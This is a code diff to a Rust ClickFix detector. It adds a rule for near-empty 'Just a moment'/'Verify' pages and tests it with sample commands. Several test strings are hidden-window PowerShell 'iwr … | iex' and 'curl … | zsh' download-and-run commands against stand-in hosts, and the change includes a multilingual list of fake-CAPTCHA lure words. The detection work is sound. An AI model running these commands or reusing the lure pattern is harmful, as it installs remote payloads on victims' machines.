@@ -53,6 +53,9 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
+/// if any, are in a picture.
+const TERSE_PAGE: usize = 160;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -2316,12 +2319,37 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
     // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
     // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
+    // Steps drawn in a picture on a page of a few words that say only "Just a moment...",
+    // "Verify" or nothing: a hidden-window PowerShell download run, or a Unix download run, from
+    // another site is ClickFix on its own evidence (review 40 R40-H2). A vendor's terse "Deploy
+    // agent" page says what it copies: no check word (review 40 CF40-M1).
+    let terse = page.flat.len() <= TERSE_PAGE
+        // (From the internet: a join command to a private address is the person's network.)
+        && (fetch > 0 || !command.https_sites.is_empty())
+        && !command.fetches_from_site(&page.site)
+        && !command.fetches_from_owned(&page.site)
+        && !(page.site.len() > 3 && has(&command.flat, &page.site))
+        && page.weight(Cat::InstallDocs) < 1.0
+        && (command.shapes.contains(&Shape::PowerShellHidden)
+            && command.shapes.contains(&Shape::PowerShellDownload)
+            || command.runs_on(Platform::Unix))
+        && (told
+            || verify > 0.0
+            || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
+            || has_any(
+                &page.flat,
+                "moment captcha robot human humain humano umano mensch checking お待ち робот",
+            )
+            // (A device "verification" page of an MDM may copy its agent from a CDN over https:
+            // the bare word only with a bare IP or plain http.)
+            || fetch > 0 && has_any(&page.flat, "verif vérif prüf 確認 провер"));
     let unseen = !typed
         && !page.cut
-        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
         && !page.shows_head(&command)
         && !write_up
         && (fetch > 1 && (command.strong() || command.windows_payload() || paste)
+            || terse
             || told
             || verify > 0.0
             || run_dialog
@@ -2398,7 +2426,7 @@ mod tests {
     const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
 
     #[test]
-    fn review40_windowless_python_and_pip_indexes() {
+    fn review40_windowless_python_pip_indexes_and_pages_of_a_few_words() {
         let on = |url: &str, parts: &[&str], clip: &str| {
             assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
         };
@@ -2443,14 +2471,64 @@ mod tests {
         ] {
             assert!(shapes_of(clip).is_empty(), "{clip}");
         }
-        // Pages of a few words (steps in a picture, "Just a moment..."): not read (left on branch
-        // clickfix41-terse, over this branch's Wasm share).
+        // A page of a few words (steps in a picture) with a check word or nothing readable:
+        // a hidden download run from elsewhere, or a Unix download run, is ClickFix.
         let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
-        assert!(!on(
-            "https://portal.rmm.example/deploy",
-            &["Deploy agent", "Copy"],
+        let mac = "curl -fsSL http://198.51.100.30/m | zsh";
+        assert!(on(
+            "https://gate.example/",
+            &["Please wait a moment", "Go"],
             hidden
         ));
+        assert!(on(
+            "https://gate.example/",
+            &["", "Bitte bestätigen: kein Roboter"],
+            hidden
+        ));
+        assert!(on("https://gate.example/", &["", ""], mac));
+        assert!(on("https://gate.example/", &["Verificación", "pasos"], mac));
+        // The same words over https from a host name: "verification" is also a device portal's.
+        assert!(!on(
+            "https://gate.example/",
+            &["Device verification", "Copy"],
+            hidden
+        ));
+        // A vendor's terse portal (review 40 CF40-M1), its own CDN, its own IP, install words,
+        // a private join command, a non-hidden command: silent.
+        for (url, parts, clip) in [
+            (
+                "https://portal.rmm.example/deploy",
+                &["Deploy agent", "Copy"],
+                hidden,
+            ),
+            (
+                "https://app.notewise.example/",
+                &["Just a moment", "Copy"],
+                "powershell -w hidden -c \"iwr https://dl.notewise-cdn.example/s.ps1 -useb | iex\"",
+            ),
+            (
+                "http://198.51.100.30:9000/",
+                &["Just a moment", "Copy"],
+                mac,
+            ),
+            (
+                "https://portal.rmm.example/",
+                &["Install the agent: please wait a moment", "Copy"],
+                hidden,
+            ),
+            (
+                "https://ops.example/",
+                &["Just a moment", "Copy"],
+                "curl -sfL http://10.0.0.5:6443/join | sh",
+            ),
+            (
+                "https://tool.example/",
+                &["Just a moment", "Copy"],
+                "irm https://relay.test/i.ps1 | iex",
+            ),
+        ] {
+            assert!(!on(url, parts, clip), "{url} {clip}");
+        }
     }
 
     #[test]
